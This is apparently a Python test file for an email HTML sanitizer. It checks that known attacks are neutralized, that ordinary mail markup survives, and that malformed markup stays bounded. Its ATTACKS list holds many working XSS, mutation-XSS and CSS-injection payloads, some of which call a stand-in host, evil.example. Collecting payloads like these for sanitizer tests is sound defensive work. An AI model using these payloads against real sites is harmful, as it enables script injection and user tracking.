"""Tests of the safe rendering: known attacks, what must stay, and soup that must not grow."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from libs.petitbleu_mail.tests.html_judge import Judge

from petitbleu_mail.html_balance import MAX_DEPTH
from petitbleu_mail.html_tokens import MAX_ATTRIBUTES, Tag, Text, decode_value, tokens
from petitbleu_mail.mail_urls import content_id_of, message_id_of
from petitbleu_mail.safe_css import safe_style
from petitbleu_mail.safe_html import MAX_HTML, TAGS, render_html

REL = 'target="_blank" rel="noopener noreferrer nofollow"'


def of_message(url: str) -> str | None:
    cid = content_id_of(url)
    return None if cid is None else "/jmap/part/" + quote(cid, safe="")


def by_proxy(url: str) -> str:
    return "https://mail.example/image?u=" + quote(url, safe="")


def off(html: str) -> str:
    """The rendering with nothing fetched from elsewhere."""
    found = render_html(html, inline=of_message)
    assert not [url for url in Judge(found.html).fetched if url.startswith("http")]
    return found.html


def on(html: str) -> str:
    found = render_html(html, inline=of_message, proxy=by_proxy).html
    Judge(found)
    return found


# Shapes from the collections that everybody tries: scripts, handlers, foreign content, parsers that disagree, CSS.
ATTACKS = [
    "<script>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img srcset='http://evil.example/a 1x, javascript:alert(1) 2x'>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<picture><source srcset=//evil.example/a><img src=//evil.example/b></picture>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>",
    "<a href='https:/\\evil.example'>x</a>",
    "<a href=x target=_self rel=opener ping=//evil.example download>x</a>",
    "<a href='http://a' href='javascript:alert(1)'>x</a>",
    "<a href='javascript:alert(1)' href='http://a'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a id='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style></template></select><img src=x onerror=alert(1)></style>",
    "<a><table><td><a><table></table><a></tr><img src=x onerror=alert(1)></td></table>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!doctype html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<base href=http://evil.example/><img src=x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object><param name=x value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=http://evil.example/x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<video poster=http://evil.example/x></video>",
    "<audio src=http://evil.example/x autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=http://evil.example></layer>",
    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script>;</b></a></xml>",
    "<x onclick=alert(1) style=display:block>x</x>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    "<div style=\"background:url('http://evil.example/x')\">x</div>",
    "<div style=\"background:\\75rl('http://evil.example/x')\">x</div>",
    '<div style="background:u/**/rl(http://evil.example/x)">x</div>',
    '<div style="background-image:&#117;&#114;&#108;(http://evil.example/x)">x</div>',
    "<div style=\"background:image-set('http://evil.example/x' 1x)\">x</div>",
    "<div style=\"background:image('http://evil.example/x')\">x</div>",
    '<div style="background:-webkit-image-set(url(http://evil.example))">x</div>',
    "<div style=\"background:url( 'a)b' )url(http://evil.example)\">x</div>",
    '<div style="list-style-image:url(http://evil.example)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="width:exp/*x*/ression(alert(1))">x</div>',
    '<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999">x</div>',
    '<div style="po/**/sition:fixed">x</div>',
    '<div style="position\\3a fixed">x</div>',
    '<div style="POSITION:\tabsolute">x</div>',
    '<div style="margin:-999px">x</div>',
    '<div style="color:red;}*{position:fixed">x</div>',
    "<div style=\"font-family:'a;position:fixed;'\">x</div>",
    '<div style="color:var(--x);--x:url(http://evil.example)">x</div>',
    "<div style=\"@import 'http://evil.example'\">x</div>",
    "<table background=javascript:alert(1)><td background='javascript:alert(1)'>x</table>",
    "<table background=http://evil.example/x><tr background=//evil.example><td background=' http://evil.example/x'>x</table>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,x'>",
    "<img src='data:image/png;base64,AAAA\" onerror=\"alert(1)'>",
    "<img src='cid:x\" onerror=alert(1) y=\"'>",
    "<img src='http://evil.example/\"><script>alert(1)</script>'>",
    "<img lowsrc=http://evil.example/x dynsrc=http://evil.example/y longdesc=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=http://evil.example>x</q>",
    "<p data-remote-src=javascript:alert(1) data-remote-background=x>x</p>",
    "<img data-remote-src=javascript:alert(1)>",
    "<div role=alert aria-label=x>x</div>",
    "<p id=x class=y name=z>x</p>",
    "<img src=x\u2028onerror=alert(1)>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<a href=\x01javascript:alert(1)>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<",
    "<a",
    "<a href='",
    "</",
    "<!",
    "&#xD800;&#x110000;&#0;",
    "\ud800<b>\udfff",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_nothing(attack: str) -> None:
    for html in (attack, f"<div>{attack}</div>", f"<table><tr>{attack}<td>{attack}", f"<p title='{attack}'>"):
        for found in (off(html), on(html)):
            # what a browser makes of it is safe too: rendering it again finds nothing to take away
            assert "<script" not in found.lower()
            assert Judge(found).tags == Judge(render_html(found).html).tags


def test_images_of_the_message_come_from_the_given_address() -> None:
    found = render_html('<img src="CID:logo%40x.example" alt="">and<img src="cid:&lt;b&gt;">', inline=of_message)
    assert found.html == '<img src="/jmap/part/logo%40x.example" alt="">and<img src="/jmap/part/b">'
    assert found.cids == {"logo@x.example", "b"}
    assert found.remote == 0
    assert render_html('<img src="cid:a" alt="A">').html == '<img data-cid="a" alt="A">'
    assert render_html('<td><table background="cid:a">').html == "<table></table>"


def test_rfc2392_2_urls_name_parts_of_messages() -> None:
    assert content_id_of("CID:a%25b@x.example") == "a%b@x.example"
    assert content_id_of("mid:m@x.example/%3Cc@x.example%3E") == "c@x.example"
    assert content_id_of("mid:m@x.example") is content_id_of("cid:") is content_id_of("http://x/cid:a") is None
    assert message_id_of("mid:m%40x.example/c") == "m@x.example"
    assert message_id_of("cid:m") is None


def test_rfc2557_8_an_image_may_be_a_part_by_its_location() -> None:
    parts = {"http://x.example/a.png": "/part/1", "logo.gif": "/part/2"}
    html = '<img src="http://x.example/a.png"><img src="logo.gif"><img src="http://x.example/b.png">'
    found = render_html(html, inline=parts.get)
    assert found.html == '<img src="/part/1"><img src="/part/2"><img data-remote-src="http://x.example/b.png">'
    assert found.remote == 1


def test_images_from_elsewhere_are_held_back_or_proxied() -> None:
    html = '<img src="http://x.example/a.png?a=1&amp;b=2" width="1"><td><table background="//x.example/b">'
    held = render_html(html, inline=of_message)
    assert held.remote == 2
    assert held.html.startswith(
        '<img data-remote-src="http://x.example/a.png?a=1&amp;b=2" width="1"><table data-remote-background="https:'
    )
    assert "src=" not in held.html.replace("data-remote-src=", "")
    proxied = render_html(html, proxy=by_proxy)
    assert proxied.remote == 2
    assert 'src="https://mail.example/image?u=http%3A%2F%2Fx.example%2Fa.png%3Fa%3D1%26b%3D2"' in proxied.html
    assert "data-remote" not in proxied.html


def test_an_image_within_its_address_is_shown() -> None:
    assert off('<img src="data:image/png;base64,iVBORw0KGgo=">') == '<img src="data:image/png;base64,iVBORw0KGgo=">'


def test_links_open_elsewhere() -> None:
    assert (
        off('<a href=" https://x.example/?a=1&copy=2&lang=fr">x</a>')
        == f'<a href="https://x.example/?a=1&amp;copy=2&amp;lang=fr" {REL}>x</a>'
    )
    assert off('<a href="mailto:a@b.example?subject=x">x</a>') == f'<a href="mailto:a@b.example?subject=x" {REL}>x</a>'
    assert off('<a href="tel:1">x</a>') == f"<a {REL}>x</a>"


def test_styles_are_reduced() -> None:
    assert safe_style("COLOR : Red ; position:fixed; background: #fff url(x.png) no-repeat") == (
        "color:Red;background:#fff no-repeat",
        1,
    )
    assert safe_style("font-family: 'Segoe UI', \"Arial\", sans-serif !important") == (
        "font-family:'Segoe UI', \"Arial\", sans-serif !important",
        0,
    )
    assert safe_style("background-color:rgba(1, 2, 3, .5);margin:0 auto;margin-top:-3px") == (
        "background-color:rgba(1, 2, 3, .5);margin:0 auto",
        0,
    )
    assert safe_style("display:none;display:flex;display:table-cell") == ("display:none;display:table-cell", 0)
    assert safe_style("color:red/* ; */;width:1px/*") == ("color:red;width:1px", 0)


def test_the_body_becomes_a_box() -> None:
    assert off(
        '<html><head><title>t</title><style>x</style></head><body bgcolor="#eee" style="color:red">x</body></html>'
    ) == ('<div bgcolor="#eee" style="color:red">x</div>')


def test_ordinary_mail_stays() -> None:
    html = (
        '<h1 align="center">Grüße</h1><p>a <b>b</b> <i>c</i><br>d &amp; e &lt; f</p><ul><li>1</li><li>2</li></ul>'
        '<table width="600" cellpadding="0" role="presentation"><tbody><tr><td colspan="2" bgcolor="#fff">x</td></tr></tbody></table>'
        "<blockquote><pre>q\n r</pre></blockquote><hr>"
    )
    assert off(html) == html


@pytest.mark.parametrize(
    ("soup", "ordered"),
    [
        ("<p>a<p>b<div>c</p>d", "<p>a</p><p>b</p><div>cd</div>"),
        ("<b><i>a</b>b</i>c", "<b><i>a</i></b>bc"),
        ("<ul><li>a<li>b<ul><li>c</ul>d</ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul>d</li></ul>"),
        (
            "<table><tr><td>a<td>b<tr><td>c</table>",
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>",
        ),
        ("<table><td>a</div>b</table>", "<table><tbody><tr><td>ab</td></tr></tbody></table>"),
        ("<td>a</td><tr>b", "ab"),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("a < b <3 c", "a &lt; b &lt;3 c"),
    ],
)
def test_soup_is_put_in_order(soup: str, ordered: str) -> None:
    assert off(soup) == ordered


def test_depth_and_length_are_bounded() -> None:
    deep = off("<div>" * 5000 + "x" + "</div>" * 5000 + "y")
    assert deep == "<div>" * MAX_DEPTH + "x" + "</div>" * MAX_DEPTH + "y"
    long = render_html("x" * (MAX_HTML + 1))
    assert long.is_cut
    assert len(long.html) == MAX_HTML


@pytest.mark.parametrize(
    ("head", "unit"),
    [
        ("<p>" + "".join(f"<font color={i}>" for i in range(1000)), "<p>x"),
        ("<table>" + "".join(f"<font color={i}>" for i in range(200)), "<tr></tr>x"),
        ("<a href=http://x>" + "".join(f"<b title={i}>" for i in range(200)), "<div><a href=http://y></div>"),
        ("", "<b><a href=http://x><p></b>"),
        ("", "<"),
        ("", "<table><tr><td>"),
        ("", "<img src=http://x/y>"),
    ],
)
def test_soup_does_not_multiply(head: str, unit: str) -> None:
    html = head + unit * (100_000 // len(unit))
    assert len(on(html)) <= 10 * len(html)


SOUP = st.lists(
    st.sampled_from([f"<{name}>" for name in sorted(TAGS)] + [f"</{name}>" for name in sorted(TAGS)])
    | st.sampled_from(
        ["<font color=1>", "<a href=http://x/>", "<img src=cid:x onerror=x>", "x", " ", "<svg>", "</svg>", "<math>"]
    )
    | st.sampled_from(
        [
            "<!--",
            "-->",
            "<style>",
            "</style>",
            "<title>",
            "</title>",
            "<body style='color:red'>",
            '"',
            "'",
            ">",
            "<",
            "&lt;",
        ]
    )
    | st.sampled_from(
        [
            "<td background='//x'>",
            "<p style='background:url(x);color:red;position:fixed'>",
            "<script>",
            "</script>",
            "\0",
            "&",
        ]
    ),
    max_size=60,
)


@given(SOUP.map("".join))
@example("<table><p><font color=1></table>x<p>x")
def test_any_soup_is_safe_and_stays_small(html: str) -> None:
    for found in (off(html), on(html)):
        assert len(found) <= 12 * len(html) + 100


@given(st.text(max_size=300))
def test_any_text_is_rendered(text: str) -> None:
    off(text)


@given(
    st.lists(
        st.sampled_from(
            [
                "color",
                "position",
                ":",
                ";",
                "url(",
                ")",
                "rgb(",
                "1,",
                "\\",
                "/*",
                "*/",
                "'",
                '"',
                "red",
                "-1px ",
                "margin",
                "!",
            ]
        )
    ).map("".join)
)
def test_a_reduced_style_is_a_fixed_point(style: str) -> None:
    found, _ = safe_style(style)
    assert safe_style(found) == (found, 0)


def test_tokens() -> None:
    found = list(
        tokens("a<!-- x --><B CLASS=x>b</b >&lt;<br/><![if x]>c<script>d</script>e<svg>f</svg>g<svg>h< i<title>j")
    )
    assert [t.raw if isinstance(t, Text) else ("/" if t.is_end else "") + t.name for t in found] == [
        "a", "b", "b", "/b", "&lt;", "br", "c", "script", "e", "svg", "g", "svg", "h< i", "title",
    ]  # fmt: skip


def test_attributes() -> None:
    (tag,) = tokens("<a A=1 b='2' c=\"3>\" d = e/f g/h=i a=9 =j&amp;>")
    assert isinstance(tag, Tag)
    assert tag.attributes() == {"a": "1", "b": "2", "c": "3>", "d": "e/f", "g": "", "h": "i", "=j&amp;": ""}
    (tag,) = tokens("<a " + " ".join(f"a{i}=1" for i in range(1000)) + ">")
    assert isinstance(tag, Tag)
    assert len(tag.attributes()) == MAX_ATTRIBUTES


@pytest.mark.parametrize(
    ("value", "decoded"),
    [
        ("a&amp;b", "a&b"),
        ("?a&copy=1", "?a&copy=1"),
        ("&copy", "©"),
        ("&region", "&region"),
        ("&#97&#x62;&#99;", "abc"),
        ("&x;", "&x;"),
        ("&", "&"),
    ],
)
def test_character_references_in_attributes(value: str, decoded: str) -> None:
    assert decode_value(value) == decoded
